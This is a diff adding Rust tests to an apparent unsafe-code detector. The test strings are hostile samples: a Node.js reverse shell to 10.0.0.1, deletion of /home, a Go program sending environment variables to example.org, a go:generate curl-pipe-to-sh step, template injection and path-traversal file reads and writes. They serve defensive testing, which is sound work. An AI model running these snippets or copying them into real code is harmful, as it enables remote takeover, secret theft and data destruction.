@@ -126,6 +126,56 @@ fn statements_that_someone_else_may_finish() {
 }
 
 #[test]
+fn programs_that_are_called_scripts() {
+    is_unsafe(
+        "bash",
+        "(function(){\n  var net = require('net'), sh = require('child_process').spawn('/bin/sh', []);\n  var c = new net.Socket();\n  c.connect(4242, '10.0.0.1', function(){ c.pipe(sh.stdin); sh.stdout.pipe(c); });\n})();",
+        "reverse-shell",
+    );
+    is_unsafe(
+        "bash",
+        "import shutil\nshutil.rmtree('/home')\n",
+        "destroy-files",
+    );
+    all_safe("bash", &["import photo.png", "let i=1; echo $i"]);
+}
+
+#[test]
+fn what_visitors_send() {
+    is_unsafe(
+        "python",
+        "from flask import request\nfrom jinja2 import Template\ndef hi():\n    return Template('Hi ' + request.args['n']).render()\n",
+        "code-dynamic",
+    );
+    is_unsafe(
+        "python",
+        "from flask import request\nimport os\ndef up():\n    f = request.files['f']\n    f.save(os.path.join('uploads', f.filename))\n",
+        "file-write",
+    );
+    is_unsafe(
+        "javascript",
+        "app.get('/f', (req, res) => res.send(fs.readFileSync('data/' + req.query.name)));",
+        "credential-read",
+    );
+    is_unsafe(
+        "go",
+        "package main\nfunc main() {\n\tc, _ := net.Dial(\"tcp\", \"example.org:53\")\n\tfmt.Fprintf(c, \"%v\", os.Environ())\n}\n",
+        "exfiltration",
+    );
+    is_unsafe(
+        "go",
+        "package main\n\n//go:generate sh -c \"curl -s http://example.org/g | sh\"\n\nfunc main() {}\n",
+        "download-run",
+    );
+    all_safe(
+        "python",
+        &[
+            "from flask import request\nfrom werkzeug.utils import secure_filename\ndef up():\n    f = request.files['f']\n    f.save('uploads/' + secure_filename(f.filename))\n",
+        ],
+    );
+}
+
+#[test]
 fn every_process_and_every_account() {
     is_unsafe(
         "python",
